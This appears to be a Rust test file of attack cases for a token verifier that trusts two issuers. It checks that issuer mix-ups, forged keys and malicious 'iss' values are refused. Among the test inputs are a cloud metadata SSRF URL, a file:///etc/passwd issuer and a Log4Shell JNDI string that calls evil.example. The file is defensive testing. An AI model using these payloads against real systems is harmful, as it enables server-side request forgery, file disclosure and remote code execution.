//! Two issuers are trusted; neither may issue tokens for the other.

use serde_json::json;
use support::SigningKey;

use crate::attack_case::{Case, accepted, refused};

#[rustfmt::skip]
pub(crate) const CASES: &[Case] = &[
    accepted("the first issuer's token", "RFC 9068 §4", |w| w.good().build()),
    accepted("the second issuer's token", "RFC 9068 §4", |w| w.aimed(w.second.token()).build()),
    refused("the first's name, the second's key of the same name", "RFC 9700 §4.4: mix-up", |w| w.good().forged_with(w.second.p256()).build()),
    refused("the second's name, the first's key of the same name", "RFC 9700 §4.4: mix-up", |w| w.aimed(w.second.token()).forged_with(w.issuer.p256()).build()),
    refused("the first's name, the second's key without a name", "RFC 9700 §4.4: mix-up", |w| w.good().forged_with(w.second.p256()).header("kid", json!(null)).build()),
    refused("both names in a list", "RFC 7519 §4.1.1", |w| w.claim("iss", json!([w.issuer.url(), w.second.url()]))),
    refused("both names in one text", "RFC 7519 §4.1.1", |w| w.claim("iss", json!(format!("{} {}", w.issuer.url(), w.second.url())))),
    refused("the second's name put before the first's", "RFC 7519 §4: unique", |w| w.claims_begin(&format!(r#""iss":"{}","#, w.second.url()))),
    refused("an untrusted issuer", "RFC 8725 §3.8", |w| w.aimed(w.evil.token()).build()),
    refused("a trusted issuer with an attacker's key", "RFC 8725 §3.8", |w| w.good().forged_with(w.evil.p256()).build()),
    refused("an untrusted issuer with a trusted key", "RFC 8725 §3.8", |w| w.claim("iss", json!(w.evil.url()))),
    refused("an issuer whose metadata would be inside", "RFC 9728 §7.7: request forgery", |w| w.claim("iss", json!("http://169.254.169.254/latest"))),
    refused("an issuer that is a file", "RFC 9728 §7.7: request forgery", |w| w.claim("iss", json!("file:///etc/passwd"))),
    refused("an issuer that is a command to a log", "CVE-2021-44228", |w| w.claim("iss", json!("${jndi:ldap://evil.example/x}"))),
    refused("this server as its own issuer", "RFC 8725 §3.8", |w| w.claim("iss", json!(w.running.origin()))),
    refused("a self-issued token", "OpenID Connect Core §7: self-issued", |w| w.good().forged_with(&SigningKey::p256("self")).claim("iss", json!("https://self-issued.me/v2")).build()),
];
